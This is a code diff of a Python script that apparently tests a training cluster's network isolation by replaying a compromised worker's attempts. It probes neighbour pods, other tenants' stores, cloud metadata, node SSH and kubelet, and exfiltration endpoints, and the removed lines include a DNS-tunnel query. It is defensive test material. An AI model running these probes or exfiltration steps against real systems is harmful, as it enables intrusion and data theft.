@@ -1,74 +1,88 @@
-"""What a compromised training worker tries, in the order of the incident this example retells.
+"""What a compromised training worker tries, in the order of the incident that this example retells.
 
-One line per attempt. `open`: something answered. `refused`: the packet arrived and was turned away. `blocked`: silence,
-or the network said no. Nothing is stolen or broken: a connection is opened and closed, a datagram sent.
+One line per attempt:
 
-The steps cover what version by version should become impossible. The last one succeeds today: names may be resolved, and
-what a name can carry is not inspected yet.
+  blocked   nothing came back, the network said no, or the name was refused
+  useless   something answered, and it is not what was wanted
+  REACHED   what was wanted was there
+
+A step marked with a limit is one that this version does not close; it says which. Nothing is stolen or broken: what is taken is the
+example's own, and what it is sent to takes anything. Neighbours are in `STEPS`; `evasions.py` has the ways around names.
 """
 
 import socket
+from dataclasses import dataclass
 
-from nameserver import query
-from pipeline import TIMEOUT, hosts, resolve, say
+import evasions
+from evasions import BLOCKED, REACHED, USELESS
+from pipeline import TIMEOUT, say
 
 NODES = {"node-a": "172.30.0.11", "node-b": "172.30.0.12"}  # as in nodes.yaml
 
 STEPS = [
-    ("neighbour-scan", "llm-trainer-master-0.train.pod", 22, "TCP"),
-    ("neighbour-scan", "llm-trainer-worker-0.train.pod", 22, "TCP"),
-    ("neighbour-scan", "llm-trainer-worker-2.train.pod", 8888, "TCP"),
-    ("other-tenant-features", "globex-feature-store.ingest.svc", 7000, "TCP"),
-    ("other-tenant-checkpoints", "globex-checkpoint-store.train.svc", 9000, "TCP"),
-    ("vector-database", "vector-db.serve.svc", 6333, "TCP"),
-    ("inference-admin", "inference.serve.svc", 8001, "TCP"),
-    ("inference-api", "inference.serve.svc", 8000, "TCP"),
-    ("api-server", NODES["node-a"], 6443, "TCP"),
-    ("cloud-metadata", "169.254.169.254", 80, "TCP"),
-    ("node-ssh", NODES["node-b"], 22, "TCP"),
-    ("node-kubelet", NODES["node-b"], 10250, "TCP"),
-    ("exfiltration", "203.0.113.66", 443, "TCP"),
-    ("exfiltration-by-the-allowed-host", "203.0.113.10", 443, "TCP"),
-    ("public-resolver", "198.51.100.53", 53, "UDP"),
-    ("dns-tunnel", "kube-dns.kube-system.svc", 53, "UDP"),
+    ("neighbour-scan", "llm-trainer-master-0.train.pod", 22),
+    ("neighbour-scan", "llm-trainer-worker-0.train.pod", 22),
+    ("neighbour-scan", "llm-trainer-worker-2.train.pod", 8888),
+    ("other-tenant-features", "globex-feature-store.ingest.svc", 7000),
+    ("other-tenant-checkpoints", "globex-checkpoint-store.train.svc", 9000),
+    ("vector-database", "vector-db.serve.svc", 6333),
+    ("inference-admin", "inference.serve.svc", 8001),
+    ("inference-api", "inference.serve.svc", 8000),
+    ("api-server", NODES["node-a"], 6443),
+    ("cloud-metadata", evasions.METADATA, 80),
+    ("node-ssh", NODES["node-b"], 22),
+    ("node-kubelet", NODES["node-b"], 10250),
+    ("exfiltration", "203.0.113.66", 443),
+    ("exfiltration-by-the-allowed-host", "203.0.113.10", 443),
 ]
 
 
-def tcp(address, port):
-    with socket.create_connection((address, port), timeout=TIMEOUT):
-        return "open"
+@dataclass
+class Tally:
+    outcomes: list
+    limits: int = 0
+
+    def add(self, step, target, outcome, why="", limit=""):
+        more = f" ({why})" if why else ""
+        more += f" [known limit: {limit}]" if limit else ""
+        say(f"ATTACK {step}: {target}: {outcome}{more}")
+        self.outcomes.append(outcome)
+        self.limits += bool(limit) and outcome == REACHED
+
+    def end(self):
+        counts = ", ".join(f"{self.outcomes.count(it)} {it}" for it in (BLOCKED, USELESS, REACHED))
+        say(f"ATTACK ends after {len(self.outcomes)} steps: {counts}, of these {self.limits} by a known limit")
 
 
-def udp(address, port):
-    """A datagram has arrived only if something comes back: an answer, or ICMP port unreachable as a refusal."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
-        stream.settimeout(TIMEOUT)
-        stream.connect((address, port))
-        stream.send(query("c2VjcmV0.example.com"))
-        stream.recv(512)
-        return "open"
-
-
-def attempt(step, target, port, protocol="TCP"):
-    address = resolve(target)
+def connect(target, port):
+    """A refusal is an answer too: the packet arrived, and was turned away by who was asked."""
     try:
-        outcome = tcp(address, port) if protocol == "TCP" else udp(address, port)
+        address = socket.getaddrinfo(target, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
+    except OSError as failure:
+        # Never tried; of a name of the cluster, that is a fault of the example.
+        return USELESS, f"the name was not resolved: {failure}"
+    try:
+        with socket.create_connection(address, timeout=TIMEOUT):
+            return REACHED, "open"
     except ConnectionRefusedError:
-        outcome = "refused"
-    except OSError:
-        outcome = "blocked"
-    # A name that could not be resolved was never tried; saying "blocked" would be a lie.
-    if address == target and not target[0].isdigit():
-        outcome = "unresolved"
-    say(f"ATTACK {step}: {target} {port}/{protocol}: {outcome}")
-    return outcome
+        return REACHED, "nobody listens"
+    except OSError as failure:
+        return BLOCKED, str(failure)
+
+
+def attempt(step, target, port):
+    tally = Tally([])
+    tally.add(step, f"{target} {port}/TCP", *connect(target, port))
 
 
 def run():
-    say(f"ATTACK begins: {len(hosts())} names known")
-    outcomes = [attempt(*step) for step in STEPS]
-    counts = ", ".join(f"{outcomes.count(outcome)} {outcome}" for outcome in sorted(set(outcomes)))
-    say(f"ATTACK ends after {len(outcomes)} steps: {counts}")
+    tally = Tally([])
+    say("ATTACK begins")
+    for step, target, port in STEPS:
+        tally.add(step, f"{target} {port}/TCP", *connect(target, port))
+    for step, target, act, limit in evasions.STEPS:
+        tally.add(step, target, *act(), limit)
+    tally.end()
 
 
 if __name__ == "__main__":
